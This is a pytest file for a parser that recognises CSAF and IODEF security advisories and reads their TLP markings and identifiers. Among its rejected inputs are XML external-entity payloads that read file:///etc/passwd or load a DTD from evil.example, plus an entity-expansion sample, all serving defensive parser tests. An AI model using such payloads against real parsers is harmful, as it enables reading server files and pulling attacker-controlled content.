"""CSAF and IODEF files: what they bear is read out, never believed further, and makes a file stricter at most."""

from __future__ import annotations

import hashlib
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from coordinator.incidents import attachments, documents
from coordinator.incidents.models import Attachment, ItemVersion
from coordinator.markings import Tlp
from tests.factories import native

IODEF2 = "urn:ietf:params:xml:ns:iodef-2.0"


def csaf(label="AMBER", version="2.0", **more):
    tracking = {"id": "EX-2026-001", "version": "1", "status": "final"}
    distribution = {"tlp": {"label": label}} if label else {}
    document = {"csaf_version": version, "tracking": tracking, "distribution": distribution, "title": "x"} | more
    return json.dumps({"document": document}).encode()


def iodef(space=IODEF2, restriction="", inner="", before=""):
    said = f' restriction="{restriction}"' if restriction else ""
    return (
        f'{before}<IODEF-Document version="2.00" xmlns="{space}"><Incident purpose="reporting" status="new"{said}>'
        f'<IncidentID name="csirt.example">4711</IncidentID>{inner}</Incident></IODEF-Document>'
    ).encode()


def branches(depth):
    return {"branches": [branches(depth - 1)]} if depth else {}


def in_utf16(body, encoding):
    """RFC 7970 §4.1 allows it where UTF-8 does not do."""
    return ('<?xml version="1.0" encoding="UTF-16"?>' + body.decode()).encode(encoding)


@pytest.mark.parametrize("body, format, version, tlp", [
    (csaf(), "csaf", "2.0", Tlp.AMBER),
    (csaf("WHITE"), "csaf", "2.0", Tlp.CLEAR),
    (csaf("AMBER+STRICT", "2.1"), "csaf", "2.1", Tlp.AMBER_STRICT),
    (csaf(""), "csaf", "2.0", None),
    (csaf("PURPLE"), "csaf", "2.0", None),
    (csaf("RED", "2.1", product_tree=branches(30)), "csaf", "2.1", Tlp.RED),
    (b"\xef\xbb\xbf\n" + iodef(), "iodef", "2", Tlp.AMBER_STRICT),  # without a restriction it is private
    (iodef(before=f"<!--{'x' * 9000}-->"), "iodef", "2", Tlp.AMBER_STRICT),
    (in_utf16(iodef(restriction="red"), "utf-16"), "iodef", "2", Tlp.RED),
    (in_utf16(iodef(restriction="red"), "utf-16-be"), "iodef", "2", Tlp.RED),
    (iodef("urn:ietf:params:xml:ns:iodef-1.0", "need-to-know"), "iodef", "1", Tlp.AMBER_STRICT),
    (iodef(restriction="private"), "iodef", "2", Tlp.AMBER_STRICT),
    (iodef(restriction="green", inner='<Contact role="creator" restriction="red"/>'), "iodef", "2", Tlp.RED),
    (iodef(restriction="ext-value"), "iodef", "2", None),
])  # fmt: skip
def test_what_a_document_bears_is_read_out(body, format, version, tlp):
    known = documents.recognise(body)
    assert (known.format, known.version, known.tlp) == (format, version, tlp)
    assert known.ids == (("EX-2026-001",) if format == "csaf" else ("csirt.example 4711",))


def test_purpose_status_and_restriction_of_iodef_are_shown_as_they_stand():
    said = documents.recognise(iodef(restriction="partner")).to_json()
    assert {name: said[name] for name in ("purpose", "status", "restriction", "tlp")} == {
        "purpose": "reporting", "status": "new", "restriction": "partner", "tlp": "AMBER",
    }  # fmt: skip


def test_of_many_incidents_the_first_are_named_and_each_restriction_counts():
    one = '<Incident purpose="p{0}"><a><IncidentID>inner</IncidentID></a>{1}<IncidentID>too</IncidentID></Incident>'
    many = "".join(one.format(place, f'<IncidentID name="n">{place}</IncidentID>' if place % 2 else "")
                   for place in range(300))  # fmt: skip
    stray = "</Incident><IncidentID>no</IncidentID><Other><IncidentID>no</IncidentID></Other>"
    known = documents.recognise(iodef(inner=f'{stray}{many}<Incident restriction="red">'))
    assert known.ids[:4] == ("csirt.example 4711", "too", "n 1", "too") and len(known.ids) == 20
    assert known.tlp is Tlp.RED and all(len(value) <= 200 for _, value in known.said)


@pytest.mark.parametrize("body, unclear", [
    (csaf("PURPLE"), True), (iodef(restriction="ext-value"), True), (csaf(""), False), (csaf("RED"), False),
    (csaf(distribution={"tlp": {"label": 7}}), True),
    (csaf(distribution={"tlp": {"label": "GREEN"}, "sharing_group": {"id": "00000000-0000-4000-8000-000000000001"}}),
     True),
    (csaf(distribution={"tlp": {"label": "CLEAR"}, "sharing_group": {"id": "ffffffff-ffff-ffff-ffff-ffffffffffff"}}),
     False),
])  # fmt: skip
def test_a_label_we_do_not_know_is_left_to_a_person(body, unclear):
    assert documents.recognise(body).unclear is unclear


@pytest.mark.parametrize("body", [
    csaf(version="9.9"), csaf(tracking=None), csaf(tracking={"id": 5}), csaf(distribution="all"),
    csaf() + b" " * documents.MOST, b'{"document": ["csaf_version"]}', b'{"document": ' * 5000 + b'"csaf_version"',
    b'{"a": "' + b"a" * 100_000 + b'", "csaf_version": 1}', csaf().decode().encode("utf-16"),
    csaf().replace(b'"x"', b'"\xff"'),
    b"<IODEF-Document/>", b"<IODEF-Document xmlns='urn:other'/>", b"<IODEF-Document", iodef() + b" " * documents.MOST,
    iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY a SYSTEM "file:///etc/passwd">]>', inner="&a;"),
    iodef(before='<!DOCTYPE IODEF-Document SYSTEM "https://evil.example/x.dtd">'),
    iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>'),
    iodef(before='<!DOCTYPE IODEF-Document [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>', inner="&b;"),
    iodef(before='<?xml version="1.0" encoding="no-such"?>'), iodef(before='<?xml version="1.0" encoding="UTF-16"?>'),
    iodef(inner="\xff").decode("utf-8").encode("latin-1"), iodef(inner="<a>" * 200 + "</a>" * 200),
])  # fmt: skip
def test_what_says_it_is_one_and_cannot_be_read_is_left_to_a_person(body):
    known = documents.recognise(body)
    assert (known.version, known.ids, known.tlp, known.unclear) == ("", (), None, True)


@pytest.mark.parametrize("body", [
    b"", b"{", b"%PDF-1.7", b"\xff\xfe", b"\0", b"\0\0\0", b'{"document": {}}', b"<html>IODEF</html>", b"csaf_version",
    b" " * 70_000 + b"<IODEF-Document/>", b"IODEF-Document", b'<template match="x:IODEF-Document"/>',
])  # fmt: skip
def test_anything_else_is_just_a_file(body):
    assert documents.recognise(body) is None


@given(st.binary(max_size=300), st.sampled_from([csaf(), iodef()]), st.integers(0, 200))
def test_a_damaged_document_never_fails(noise, body, at):
    documents.recognise(body[:at] + noise + body[at:])


@pytest.mark.parametrize("said, label, kept", [
    ("GREEN", "RED", "RED"), ("AMBER", "WHITE", "AMBER"), ("GREEN", "PURPLE", None),
])  # fmt: skip
def test_its_label_makes_the_file_stricter_and_never_looser(store, partner, said, label, kept):
    body = csaf(label)
    digest = hashlib.sha256(body).hexdigest()
    file = {"name": "advisory.json", "media_type": "application/json", "size": len(body), "sha256": digest}
    assert partner.post(native(tlp=said, attachments=[file])).status_code == 202
    assert partner.put(digest, body).status_code == 200
    with store.read() as tx:
        row = tx.execute(select(Attachment)).scalar_one()
        assert tx.get(ItemVersion, row.item_version_id).tlp == kept
        [shown] = attachments.attachments_of(tx, row.incident_id)
    assert (shown["document"]["format"], shown["document"]["ids"]) == ("csaf", ["EX-2026-001"])
